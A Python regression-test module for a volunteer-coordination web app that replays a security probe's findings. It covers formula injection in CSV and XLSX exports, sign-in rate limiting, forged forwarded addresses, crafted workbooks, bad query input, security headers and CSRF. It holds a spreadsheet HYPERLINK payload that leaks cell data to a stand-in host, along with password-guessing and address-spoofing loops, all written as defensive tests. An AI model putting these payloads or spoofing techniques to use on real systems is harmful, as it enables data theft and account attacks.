"""The outside probe's findings (issue 20): each one, as the probe would try it again."""

from __future__ import annotations

import csv
import io
import re
import threading
import time
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from types import SimpleNamespace
from typing import Any
from uuid import uuid4

import httpx
import openpyxl
import pytest
import redis
import yaml
from litestar.testing import TestClient

from coordination.account import BadCredentials
from coordination.areas.accounts.commands import CreateUser, RegisterVolunteer
from coordination.areas.attendance.commands import CheckIn, CheckOut
from coordination.areas.packing.commands import AddLine, DispatchTruck, LogBoxes
from coordination.areas.sign_ups.commands import SignUp
from coordination.areas.sites.commands import OpenSite, ScheduleShift
from coordination.areas.tickets.commands import OpenTicket
from coordination.errors import InvalidInput
from coordination.permissions import SYSTEM, Grant, Role
from tests.conftest import started
from tests.e2e.clients import prime, sign_in
from tests.e2e.test_pages import form_token
from tests.helpers import PASSWORD, mobile, national_id
from tests.processes import server
from web.app import create_app
from web.bootstrap import Services
from web.platform.downloads import csv_response, workbook_response
from web.platform.imports import CHUNK, ImportJob, ImportRunning, find_import, start_import
from web.platform.limits import limited_sign_in, phone_key
from web.platform.ratelimit import (
    SIGN_IN_ACCOUNT,
    SIGN_IN_ADDRESS,
    SIGN_IN_PAIR,
    TooManyAttempts,
)
from web.platform.settings import Settings, SettingsError, load_settings
from web.platform.tabular import MAX_ROWS, TooManyRows, read_table
from workers.jobs import work_until_idle

FORMULA = '=HYPERLINK("http://x?leak="&B2,"Open")'
LIVE_STARTS = ("=", "+", "-", "@", "\t", "\r")


def exporting_world(services: Services) -> dict[str, str]:
    """A packing day, a kitchen, a point and a ticket, every free name a formula."""
    run = services.dispatcher.run
    admin = mobile()
    run(CreateUser(admin, "Admin", PASSWORD, [Grant(Role.NATIONAL_ADMIN)]), SYSTEM)
    site = run(OpenSite("formula-stadium", "packing", "01", FORMULA, FORMULA), SYSTEM)
    point = run(OpenSite("formula-point", "distribution_point", "01", FORMULA, FORMULA), SYSTEM)
    run(OpenSite("formula-kitchen", "kitchen", "01", FORMULA, FORMULA), SYSTEM)
    line = run(AddLine(site, FORMULA, FORMULA, 400), SYSTEM)
    run(LogBoxes(site, line, 12, "boxes"), SYSTEM)
    run(DispatchTruck(site, point, 5, "truck", label=FORMULA), SYSTEM)
    now = datetime.now(UTC).replace(microsecond=0)
    shift = run(
        ScheduleShift(site, "packer", now - timedelta(hours=1), now + timedelta(hours=5), 10),
        SYSTEM,
    )
    volunteer = run(RegisterVolunteer(FORMULA, mobile(), national_id(), "01", PASSWORD))
    run(SignUp(shift, volunteer, "formula-sign-up"), SYSTEM)
    run(CheckIn(site, volunteer, "formula-in"), SYSTEM)
    run(CheckOut(site, volunteer, "formula-out"), SYSTEM)
    run(OpenTicket("hotline", "urgent_need", "01", FORMULA, FORMULA, "0223456789"), SYSTEM)
    job = start_import(services.db, "households", SYSTEM, str(point), [], "ar")
    services.runner.catch_up()
    return {"admin": admin, "site": str(site), "job": job}


def export_routes(world: dict[str, str]) -> list[str]:
    site = world["site"]
    return [
        *(f"/packing/{site}/export/{n}.csv" for n in ("check_ins", "hours", "boxes", "dispatches")),
        f"/packing/{site}/export/day.xlsx",
        "/kitchens/report/csv",
        "/kitchens/report/xlsx",
        "/kitchens/report/csv?governorate=01",
        "/kitchens/report/xlsx?governorate=01",
        "/governorates/report/overview.csv",
        "/governorates/report/overview.xlsx",
        "/governorates/report/01.csv",
        "/governorates/report/01.xlsx",
        "/operations/report/csv",
        "/operations/report/xlsx",
        f"/imports/{world['job']}/rejected.csv",
    ]


def cells_of(body: bytes, xlsx: bool) -> list[tuple[Any, str]]:
    """Every cell as (value, kind): 'f' a formula, 'u' a link, 'n' a number, 's' text."""
    if not xlsx:
        text = body.decode("utf-8-sig")
        return [(cell, "s") for row in csv.reader(io.StringIO(text)) for cell in row]
    book = openpyxl.load_workbook(io.BytesIO(body))
    return [
        (cell.value, "u" if cell.hyperlink else cell.data_type)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]


def test_every_export_carries_formulas_as_inert_text(
    client: TestClient, services: Services
) -> None:
    world = exporting_world(services)
    sign_in(client, world["admin"])
    formulas_seen = 0
    for route in export_routes(world):
        answer = client.get(route)
        assert answer.status_code == 200, (route, answer.text[:300])
        xlsx = "xlsx" in route
        for value, kind in cells_of(answer.content, xlsx):
            assert kind not in ("f", "u"), (route, value)
            if xlsx or not isinstance(value, str):
                formulas_seen += value == FORMULA
                continue
            assert not value.startswith(LIVE_STARTS), (route, value)
            formulas_seen += value == "'" + FORMULA
    assert formulas_seen >= 10


def test_numbers_stay_numbers_and_text_that_looks_live_is_quoted() -> None:
    rows = [{"name": "-1+1", "count": -5, "at": "@SUM(A1)", "tab": "\tx", "plain": "منى"}]
    columns = ("name", "count", "at", "tab", "plain")
    text = csv_response(rows, columns, "t").content.decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text)))[1] == ["'-1+1", "-5", "'@SUM(A1)", "'\tx", "منى"]
    book = openpyxl.load_workbook(
        io.BytesIO(workbook_response({"t": (rows, columns)}, "t").content)
    )
    cells = [(cell.value, cell.data_type) for cell in book["t"][2]]
    assert cells[1] == (-5, "n") and all(kind in ("s", "n") for _, kind in cells)


@pytest.mark.parametrize("name", ["٠١.csv", "۲۱.xlsx", "01.csv"])
def test_a_governorate_report_named_in_arabic_indic_digits(
    client: TestClient, services: Services, name: str
) -> None:
    world = exporting_world(services)
    sign_in(client, world["admin"])
    answer = client.get(f"/governorates/report/{name}")
    assert answer.status_code == 200
    assert answer.headers["content-disposition"].isascii()


def request_from(services: Services, address: str) -> Any:
    return SimpleNamespace(
        client=SimpleNamespace(host=address),
        app=SimpleNamespace(state=SimpleNamespace(services=services)),
    )


def owner(services: Services) -> str:
    phone = mobile()
    services.dispatcher.run(RegisterVolunteer("Owner", phone, national_id(), "01", PASSWORD))
    return phone


def test_wrong_passwords_from_elsewhere_never_lock_the_owner_out(services: Services) -> None:
    phone = owner(services)
    for n in range(40):
        with pytest.raises(BadCredentials):
            limited_sign_in(request_from(services, f"203.0.113.{n % 8}"), phone, "guess-1234")
    assert limited_sign_in(request_from(services, "198.51.100.1"), phone, PASSWORD)
    with pytest.raises(TooManyAttempts):  # an address that kept failing still waits
        limited_sign_in(request_from(services, "203.0.113.1"), phone, PASSWORD)


def test_an_account_under_attack_brakes_every_address_that_failed_on_it(
    services: Services,
) -> None:
    assert SIGN_IN_ACCOUNT.limit >= 300 and SIGN_IN_ACCOUNT.window >= 3600  # a slow brake
    phone = owner(services)
    account = phone_key(request_from(services, "x"), phone)
    services.limiter.record([(SIGN_IN_ACCOUNT, account)] * SIGN_IN_ACCOUNT.limit)
    with pytest.raises(BadCredentials):
        limited_sign_in(request_from(services, "203.0.113.9"), phone, "guess-1234")
    with pytest.raises(TooManyAttempts):
        limited_sign_in(request_from(services, "203.0.113.9"), phone, PASSWORD)
    assert limited_sign_in(request_from(services, "198.51.100.2"), phone, PASSWORD)


def test_one_address_trying_many_accounts_is_stopped(services: Services) -> None:
    where = request_from(services, "203.0.113.77")
    for _ in range(SIGN_IN_ADDRESS.limit):
        with pytest.raises(BadCredentials):
            limited_sign_in(where, mobile(), "guess-1234")
    with pytest.raises(TooManyAttempts):
        limited_sign_in(where, owner(services), PASSWORD)


def test_trusted_proxies_are_read_as_addresses_and_networks() -> None:
    assert load_settings({}).trusted_proxies == ()
    settings = load_settings({"KATF_TRUSTED_PROXIES": " 10.0.0.7, 172.16.0.0/12 ,"})
    assert settings.trusted_proxies == ("10.0.0.7", "172.16.0.0/12")
    with pytest.raises(SettingsError, match="KATF_TRUSTED_PROXIES"):
        load_settings({"KATF_TRUSTED_PROXIES": "proxy.local"})


def right_password_after_guesses_from_rotating_addresses(base: str) -> int:
    """Wrong passwords, each claiming another address, then the right one from yet another."""
    phone = mobile()
    with httpx.Client(base_url=base) as registering:
        token = registering.get("/api/v1/session").json()["csrf_token"]
        body = {"full_name": "Owner", "phone": phone, "national_id": national_id()}
        body.update(governorate="01", password=PASSWORD)
        made = registering.post("/api/v1/volunteers", json=body, headers={"X-CSRF-Token": token})
        assert made.status_code == 201, made.text
    with httpx.Client(base_url=base) as client:
        token = client.get("/api/v1/session").json()["csrf_token"]

        def attempt(password: str, claimed: str) -> int:
            headers = {"X-CSRF-Token": token, "X-Forwarded-For": claimed}
            body = {"phone": phone, "password": password}
            return client.post("/api/v1/session", json=body, headers=headers).status_code

        for n in range(SIGN_IN_PAIR.limit):
            assert attempt("guess-1234", f"203.0.113.{n}") == 409
        return attempt(PASSWORD, "198.51.100.1")


def test_x_forwarded_for_is_believed_only_from_a_trusted_proxy(
    sqlite_settings: Settings,
) -> None:
    with server(sqlite_settings, KATF_TRUSTED_PROXIES="") as base:
        assert right_password_after_guesses_from_rotating_addresses(base) == 429
    with server(sqlite_settings, KATF_TRUSTED_PROXIES="127.0.0.1") as base:
        assert right_password_after_guesses_from_rotating_addresses(base) == 200


def test_the_compose_deployment_says_whose_forwarded_header_it_believes() -> None:
    compose = yaml.safe_load((Path(__file__).parents[2] / "compose.yaml").read_text())
    environment = compose["x-katf"]["environment"]
    assert "KATF_TRUSTED_PROXIES" in environment
    proxies = load_settings({"KATF_TRUSTED_PROXIES": environment["KATF_TRUSTED_PROXIES"]})
    assert proxies.trusted_proxies == ()  # none until the proxy's address is written there


HOUSEHOLDS = {"national_id": ("national_id",), "size": ("size",)}


def workbook_declaring(rows: list[list[str]], dimension: str) -> bytes:
    """A small workbook whose sheet claims to span ``dimension``, as a crafted file may."""
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    book.active.cell(row=20_000, column=1, value=" ")  # one blank far down pads every row
    out = io.BytesIO()
    book.save(out)
    crafted = io.BytesIO()
    source = zipfile.ZipFile(io.BytesIO(out.getvalue()))
    with source, zipfile.ZipFile(crafted, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                declared = f'<dimension ref="{dimension}"'.encode()
                data = re.sub(rb'<dimension ref="[^"]*"', declared, data)
            target.writestr(item, data)
    return crafted.getvalue()


def test_a_workbook_declaring_a_huge_sheet_costs_only_its_cells() -> None:
    data = workbook_declaring([["national_id", "size"], ["29001010100011", "4"]], "A1:XFD20000")
    assert len(data) < 10_000
    started = time.process_time()
    rows = read_table("households.xlsx", data, HOUSEHOLDS)
    assert rows == [{"national_id": "29001010100011", "size": "4"}]
    assert time.process_time() - started < 2


def test_a_file_longer_than_the_cap_is_refused_whole() -> None:
    lines = "\n".join(f"2900101010{n:04d}1,4" for n in range(MAX_ROWS + 1))
    with pytest.raises(TooManyRows):
        read_table("households.csv", f"national_id,size\n{lines}\n".encode(), HOUSEHOLDS)
    trailing = "\n".join(["national_id,size", "29001010100011,4", *[","] * (MAX_ROWS + 5)])
    assert len(read_table("households.csv", trailing.encode(), HOUSEHOLDS)) == 1


def upload(client: TestClient, point: str, name: str, data: bytes, lang: str = "en") -> Any:
    return client.post(
        f"/points/{point}/import?lang={lang}",
        files={"file": (name, data, "application/octet-stream")},
        follow_redirects=False,
    )


@pytest.mark.parametrize(
    ("name", "data", "english", "arabic"),
    [
        ("long.csv", b"national_id,size\n" + b"9" * 200_000 + b",4\n", "too long", "طويلة"),
        ("one.csv", b"national_id\n29001010100011\n", "one column", "عمود واحد"),
        (
            "many.csv",
            b"national_id,size\n" + b"29001010100011,4\n" * (MAX_ROWS + 1),
            "more than",
            "أكثر من",
        ),
    ],
)
def test_an_unreadable_upload_is_refused_with_a_sentence(
    client: TestClient, services: Services, name: str, data: bytes, english: str, arabic: str
) -> None:
    world = exporting_world(services)
    point = importing_point(services)
    sign_in(client, world["admin"])
    refused = upload(client, point, name, data)
    assert refused.status_code == 422 and english in refused.text, refused.text[:500]
    assert arabic in upload(client, point, name, data, lang="ar").text


def importing_point(services: Services) -> str:
    point = services.dispatcher.run(
        OpenSite(f"import-point-{uuid4().hex[:6]}", "distribution_point", "01", "نقطة", "Point"),
        SYSTEM,
    )
    services.runner.catch_up()
    return str(point)


class Recording:
    """The read-model database, counting the bytes each write sends."""

    def __init__(self, db: Any) -> None:
        self.db, self.written = db, 0

    def __getattr__(self, name: str) -> Any:
        return getattr(self.db, name)

    @contextmanager
    def transaction(self, **options: Any) -> Iterator[Any]:
        with self.db.transaction(**options) as cursor:
            yield self._counting(cursor)

    def _counting(self, cursor: Any) -> Any:
        recording = self

        class Counting:
            def __getattr__(self, name: str) -> Any:
                return getattr(cursor, name)

            def execute(self, sql: str, params: Any = ()) -> Any:
                recording.written += len(repr(params))
                return cursor.execute(sql, params)

            def executemany(self, sql: str, params: Any) -> Any:
                recording.written += len(repr(params))
                return cursor.executemany(sql, params)

        return Counting()


def test_an_import_report_grows_by_appending_its_rows(services: Services) -> None:
    refused = InvalidInput("bad row")
    rows = [{"national_id": str(n)} for n in range(40 * CHUNK)]
    db = Recording(services.db)
    job = start_import(services.db, "households", SYSTEM, "report-target", rows, "en")
    refusing = ImportJob(db, lambda actor, target, chunk, keys: [refused] * len(chunk))
    work_until_idle(db, {"households": refusing})
    report = find_import(services.db, job)["report"]
    assert [r["row"] for r in report] == list(range(2, len(rows) + 2))
    assert report[0]["code"] == "invalid_input"
    assert db.written < 3 * len(repr(report))  # rewritten whole each chunk, it was ~20×


def wait_until_finished(services: Services, job: str) -> None:
    deadline = time.monotonic() + 30
    while not (find_import(services.db, job) or {}).get("finished_at"):
        assert time.monotonic() < deadline
        time.sleep(0.02)


def test_one_import_at_a_time_per_place(client: TestClient, services: Services) -> None:
    world = exporting_world(services)
    point = importing_point(services)
    release = threading.Event()

    def slow(actor: Any, target: str, chunk: list[dict[str, str]], keys: Any) -> list[Any]:
        release.wait(30)
        return ["created"] * len(chunk)

    services.jobs["households"] = ImportJob(services.db, slow)  # the app's own worker runs it
    running = start_import(services.db, "households", SYSTEM, point, [{}], "en")
    with pytest.raises(ImportRunning):
        start_import(services.db, "households", SYSTEM, point, [{}], "en")
    sign_in(client, world["admin"])
    busy = upload(client, point, "h.csv", b"national_id,size\n29001010100011,4\n")
    assert busy.status_code == 409 and "still running" in busy.text
    release.set()
    wait_until_finished(services, running)
    again = upload(client, point, "h.csv", b"national_id,size\n29001010100011,4\n")
    assert again.status_code == 303


@pytest.fixture
def pg_services(pg_settings: Settings) -> Iterator[Services]:
    yield from started(pg_settings)


def test_one_import_at_a_time_on_postgresql_too(pg_services: Services) -> None:
    db = pg_services.db
    running = start_import(db, "volunteers", SYSTEM, "place", [{}], "en")
    with pytest.raises(ImportRunning):
        start_import(db, "volunteers", SYSTEM, "place", [], "en")
    other = start_import(db, "households", SYSTEM, "place", [], "en")
    created = ImportJob(db, lambda actor, target, chunk, keys: ["created"] * len(chunk))
    assert work_until_idle(db, {"volunteers": created, "households": created}) == 2
    for job in (running, other):
        assert find_import(db, job)["state"] == "finished"
    assert find_import(db, running)["created"] == 1
    start_import(db, "volunteers", SYSTEM, "place", [], "en")


@pytest.mark.parametrize(
    "path",
    [
        f"/api/v1/shifts?offset={10**30}",
        f"/api/v1/shifts?offset={2**63}",
        f"/api/v1/shifts?limit={10**30}",
        "/api/v1/shifts?offset=-1",
        f"/shifts?page={10**30}",
        "/governorates/report/٩٩.csv",
    ],
)
def test_paging_and_names_out_of_range_are_refused_not_crashed(
    client: TestClient, services: Services, path: str
) -> None:
    world = exporting_world(services)
    sign_in(client, world["admin"])
    assert client.get(path).status_code == 422


@pytest.fixture
def production_client(production: tuple[Settings, Services]) -> Iterator[TestClient]:
    _, services = production
    with TestClient(create_app(services, secure_cookies=False)) as client:
        yield client


@pytest.mark.parametrize(
    "path",
    [
        "/shifts?site=%00",
        "/shifts?day=%00",
        "/shifts?governorate=%00",
        "/api/v1/shifts?site=%00",
        "/api/v1/shifts?day=2026-03-17%00",
        "/api/v1/shifts?governorate=0%001",
        "/api/v1/shifts?site=%1b%5b31m",
        "/sign-in?next=/home%7f",
        "/shifts?site=%c2%85",
    ],
)
def test_a_control_character_in_a_query_is_refused(
    production_client: TestClient, path: str
) -> None:
    answer = production_client.get(path, headers={"Accept-Language": "en"})
    assert answer.status_code == 422, answer.text[:300]
    assert "character" in answer.text


def test_a_query_with_arabic_and_spaces_is_still_welcome(production_client: TestClient) -> None:
    for path in ("/shifts?site=&day=&governorate=01", "/sign-in?next=/shifts%3Fsite%3D%D9%85"):
        assert production_client.get(path).status_code == 200


SECURITY_HEADERS = {
    "x-frame-options": "DENY",
    "x-content-type-options": "nosniff",
    "referrer-policy": "same-origin",
}


def assert_guarded(answer: Any) -> None:
    for name, value in SECURITY_HEADERS.items():
        assert answer.headers.get(name) == value, (answer.status_code, name)
    assert "frame-ancestors 'none'" in answer.headers.get("content-security-policy", "")


def test_error_answers_carry_the_security_headers(
    client: TestClient, services: Services, monkeypatch: pytest.MonkeyPatch
) -> None:
    phone = owner(services)
    answers = {
        401: client.get("/my-shifts"),
        403: client.post("/api/v1/session", json={"phone": phone, "password": PASSWORD}),
        404: client.get("/no-such-page"),
        422: client.get("/api/v1/shifts?offset=-1"),
    }
    prime(client)
    for _ in range(SIGN_IN_PAIR.limit):
        client.post("/api/v1/session", json={"phone": phone, "password": "guess-1234"})
    answers[429] = client.post("/api/v1/session", json={"phone": phone, "password": PASSWORD})

    def broken(*args: Any, **kwargs: Any) -> Any:
        raise RuntimeError("a fault of ours")

    monkeypatch.setattr("web.volunteers.api.find_shifts", broken)
    answers[500] = client.get("/api/v1/shifts")
    for status, answer in answers.items():
        assert answer.status_code == status, (status, answer.text[:200])
        assert_guarded(answer)
    signing_in = client.get("/my-shifts")  # the sign-in form, answered 401
    assert signing_in.status_code == 401 and 'name="password"' in signing_in.text
    assert_guarded(signing_in)


@pytest.fixture
def redis_services(sqlite_settings: Settings, redis_url: str) -> Iterator[Services]:
    yield from started(replace(sqlite_settings, redis_url=redis_url))


def session_keys(redis_url: str) -> set[bytes]:
    """Sessions kept on the server (none: they are sealed in the cookie); sign-outs aside."""
    keys = redis.Redis.from_url(redis_url).scan_iter("*katf:sessions*")
    return {key for key in keys if not key.startswith(b"katf:sessions:ended:")}


def test_anonymous_pages_keep_no_session(redis_services: Services, redis_url: str) -> None:
    app = create_app(redis_services, secure_cookies=False)
    before = session_keys(redis_url)
    for n in range(50):
        for path in ("/sign-in", "/shifts"):
            with TestClient(app) as visitor:
                assert visitor.get(path).status_code == 200
                assert "katf_session" not in visitor.cookies, (n, path)
    assert session_keys(redis_url) == before


def test_an_anonymous_form_still_needs_its_token(redis_services: Services, redis_url: str) -> None:
    phone = owner(redis_services)
    app = create_app(redis_services, secure_cookies=False)
    with TestClient(app) as visitor, TestClient(app) as forger:
        token = form_token(visitor.get("/sign-in").text)
        forged = form_token(forger.get("/sign-in").text)
        form = {"phone": phone, "password": PASSWORD}
        for wrong in (None, "made-up", forged):
            refused = visitor.post(
                "/sign-in", data={**form, "_csrf_token": wrong} if wrong else form
            )
            assert refused.status_code == 403, wrong
        assert session_keys(redis_url) == set()
        signed_in = visitor.post(
            "/sign-in", data={**form, "_csrf_token": token}, follow_redirects=False
        )
        assert signed_in.status_code == 303
        assert "katf_session" in visitor.cookies and session_keys(redis_url) == set()
        home = visitor.get("/my-shifts")
        assert home.status_code == 200
        assert visitor.post("/api/v1/session", json=form).status_code == 403
        after = form_token(home.text)
        assert after != token
        refused = visitor.delete("/api/v1/session", headers={"X-CSRF-Token": token})
        assert refused.status_code == 403, "a signed-in session takes its own token only"
        assert visitor.delete("/api/v1/session", headers={"X-CSRF-Token": after}).status_code == 200
